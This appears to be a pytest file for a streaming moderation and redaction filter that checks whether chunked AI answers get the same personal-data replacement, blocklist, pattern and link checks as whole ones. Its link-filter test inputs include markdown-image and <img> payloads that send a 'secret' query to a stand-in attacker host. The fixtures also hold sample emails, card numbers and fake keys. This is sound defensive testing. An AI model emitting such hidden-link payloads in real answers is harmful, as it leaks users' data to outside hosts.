"""What leaves of a text in pieces is what leaves of it as a whole, and nothing that is replaced."""

import random
from collections.abc import Callable

import pytest

from deployments.moderation.blocklist import Blocklist, BlocklistStream
from deployments.moderation.findings import StreamCheck
from deployments.moderation.held_text import HeldText
from deployments.moderation.links import LinkStream
from deployments.moderation.patterns import Patterns, PatternsStream
from deployments.moderation.personal_data import PersonalDataStream
from deployments.moderation.sentences import SentenceStream, sentences
from deployments.redaction.placeholders import Numbering
from deployments.redaction.redactor import Redactor

PROSE = [
    "The queue was long, so we went home.",
    "Nothing of it was written down!",
    "What happened then is told in the second part?",
    "In spring 2019 the park had 4,200 visitors (a record).",
]
VALUES = [
    "Ask ann.lee@example.org about it",
    "Call me at +49 30 901820 tomorrow",
    "my password is hunter2!x",
    "The card is 4111 1111 1111 1111",
    "My name is Johanna Schmidt",
    "IBAN DE89 3704 0044 0532 0130 00",
    "the key sk-abcdefghijklmnopqrstuvwx0123456789ABCDEF",
]
HIDDEN = ["ann.lee@", "901820", "hunter2", "4111 1111", "Schmidt", "0532 0130", "uvwx0123456789"]


def cut(text: str, chance: random.Random) -> list[str]:
    pieces, place = [], 0
    while place < len(text):
        step = chance.randint(1, 9)
        pieces.append(text[place : place + step])
        place += step
    return pieces


def sent(held: HeldText, pieces: list[str]) -> str:
    return "".join([*map(held.feed, pieces), held.finish()])


def random_answer(chance: random.Random) -> str:
    parts = [
        chance.choice(VALUES) + chance.choice([". ", "! ", ", and ", "\n\n", ".\n"])
        if chance.random() < 0.4
        else chance.choice(PROSE) + " "
        for _ in range(chance.randint(1, 8))
    ]
    return "".join(parts)


def test_personal_data_is_replaced_in_pieces_as_in_the_whole() -> None:
    chance, redactor = random.Random(5), Redactor()
    for _ in range(400):
        text = random_answer(chance)
        held = HeldText([PersonalDataStream(redactor, Numbering())])
        got = sent(held, cut(text, chance))
        assert got == redactor.redact(text), text
        assert not any(value in got for value in HIDDEN)


def test_a_value_at_the_end_of_a_sentence_is_one_with_what_follows() -> None:
    text = "You reach us at 030. 901820 is the extension of nobody. Bye."
    redactor = Redactor()
    for size in range(1, 12):
        pieces = [text[place : place + size] for place in range(0, len(text), size)]
        held = HeldText([PersonalDataStream(redactor, Numbering())])
        assert sent(held, pieces) == redactor.redact(text)


def test_text_without_any_sign_goes_on_by_words() -> None:
    held = HeldText([PersonalDataStream(Redactor(), Numbering())])
    assert held.feed("We went ho") == "We went "
    assert held.feed("me and sle") == "home and "


def test_a_sentence_without_end_is_not_held_without_end() -> None:
    held = HeldText([PersonalDataStream(Redactor(), Numbering())])
    text = "In 2019 we had many guests and so on " * 60
    got = "".join(held.feed(text[place : place + 4]) for place in range(0, len(text), 4))
    assert len(text) - len(got) < 400
    assert got + held.finish() == text


def test_a_long_secret_is_replaced_as_one() -> None:
    secret = "eyJ" + "aB3_" * 500 + "." + "cD4-" * 500 + ".sig9"
    text = f"Use the token {secret} for it. Then go on."
    held = HeldText([PersonalDataStream(Redactor(), Numbering())])
    got = sent(held, [text[place : place + 7] for place in range(0, len(text), 7)])
    assert got == Redactor().redact(text)
    assert "aB3_" not in got


def test_offsets_move_with_what_is_replaced() -> None:
    text = "Ask ann@example.org or bob@example.org. See [1]."
    held = HeldText([PersonalDataStream(Redactor(), Numbering())])
    got = sent(held, [text])
    assert got[held.moved(text.index("[1]")) :] == "[1]."
    assert held.moved(0) == 0


@pytest.mark.parametrize(
    ("answer", "left"),
    [
        ("See ![x](https://evil.example/?q=secret) now.", "See  now."),
        ("See [this page](https://evil.example/a) now.", "See this page now."),
        ("See [docs](https://docs.example/a) now.", "See [docs](https://docs.example/a) now."),
        ("See [docs](api.md#x) now [1].", "See [docs](api.md#x) now [1]."),
        ("See https://evil.example/a?b=c, then go.", "See , then go."),
        ("See https://docs.example/a. Then go.", "See https://docs.example/a. Then go."),
        ('So <img src="https://evil.example/x"> it is', "So  it is"),
        ("![local](/pixel.png)", ""),
        ("[1]: https://evil.example/a\nText", "\nText"),
        ("[1]: it is so", "[1]: it is so"),
        ("a[0] and b < c and !x", "a[0] and b < c and !x"),
    ],
)
def test_links_that_no_source_has_are_taken_out(answer: str, left: str) -> None:
    for size in range(1, len(answer) + 1):
        held = HeldText([LinkStream(["The page https://docs.example/a says so."])])
        pieces = [answer[place : place + size] for place in range(0, len(answer), size)]
        assert sent(held, pieces) == left


def test_patterns_find_in_pieces_what_they_find_in_the_whole() -> None:
    chance = random.Random(9)
    patterns = Patterns({"ticket": r"\bT-[0-9]{1,4}\b", "ab": "(?i)ab{1,3}"})
    for _ in range(1500):
        text = "".join(chance.choice(["T-", "12", "3", " ", "a", "B", "b", "x"]) for _ in range(14))
        whole = list(patterns.find(text))
        held = HeldText([PatternsStream(patterns)])
        got = sent(held, cut(text, chance))
        assert held.is_blocked == bool(whole), text
        if whole:
            assert text.startswith(got)
            assert len(got) <= min(one.start for one in whole)
        else:
            assert got == text


def check_of(name: str) -> Callable[[], StreamCheck]:
    blocklist, patterns = Blocklist({"list": ["very bad"]}), Patterns({"p": "zq{1,5}"})
    makers: dict[str, Callable[[], StreamCheck]] = {
        "blocklist": lambda: BlocklistStream(blocklist),
        "patterns": lambda: PatternsStream(patterns),
        "personal_data": lambda: PersonalDataStream(Redactor(), Numbering()),
        "links": lambda: LinkStream([]),
        "sentences": SentenceStream,
    }
    return makers[name]


NAMES = ["blocklist", "patterns", "personal_data", "links", "sentences"]


@pytest.mark.parametrize("name", [*NAMES, "all"])
def test_nothing_is_lost_where_nothing_is_found(name: str) -> None:
    chance = random.Random(17)
    makers = [check_of(one) for one in (NAMES if name == "all" else [name])]
    for _ in range(150):
        text = "".join(chance.choice([*PROSE, "very good ", "[x] "]) for _ in range(6))
        held = HeldText([make() for make in makers])
        assert sent(held, cut(text, chance)) == text


def test_all_checks_together_send_what_each_of_them_lets_pass() -> None:
    text = "First ask ann@example.org. Then see https://evil.example/x, and it is very bad. End."
    for size in range(1, 30):
        held = HeldText([check_of(name)() for name in NAMES])
        pieces = [text[place : place + size] for place in range(0, len(text), size)]
        got = sent(held, pieces)
        assert held.is_blocked
        assert got.startswith("First ask <EMAIL_1>. ")
        assert "very" not in got
        assert "evil" not in got
        assert [one.category for one in held.blocked_by()] == ["list"]


def test_what_only_flags_holds_nothing_back() -> None:
    held = HeldText([], [BlocklistStream(Blocklist({"list": ["very bad"]}), stops=False)])
    assert held.feed("it is very b") == "it is very b"
    assert sent(held, ["ad."]) == "ad."
    assert [one.category for one in held.flagged()] == ["list"]


def test_sentences_are_the_text() -> None:
    text = "One. Two! Three? " + "word " * 700 + "四。五。"
    assert "".join(sentences(text)) == text
    assert max(map(len, sentences(text))) <= 1000
